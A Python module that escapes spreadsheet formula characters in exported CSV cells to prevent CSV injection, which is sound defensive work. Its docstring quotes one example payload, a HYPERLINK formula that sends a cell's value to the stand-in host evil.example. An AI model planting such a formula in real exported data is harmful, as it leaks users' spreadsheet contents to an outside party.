"""CSV files the product writes, safe to open in a spreadsheet. Every CSV writer goes through `csv_bytes`.

A cell that begins with = + - @, a tab or a carriage return is read by Excel, LibreOffice and Google Sheets as a
formula (`=HYPERLINK("http://evil.example/?leak="&A1,"click")` sends the sheet's data away on a click). Such a
text cell gets a leading apostrophe, which spreadsheets show as text and hide; numbers are left as they are.
(OWASP, "CSV Injection".)
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float)):
        return str(value)  # a negative number is a number, not a formula
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_bytes(header: list[str], rows: Iterable[Iterable]) -> bytes:
    """UTF-8 CSV with CRLF line ends (RFC 4180), every cell through `csv_cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([csv_cell(name) for name in header])
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
    return buffer.getvalue().encode()
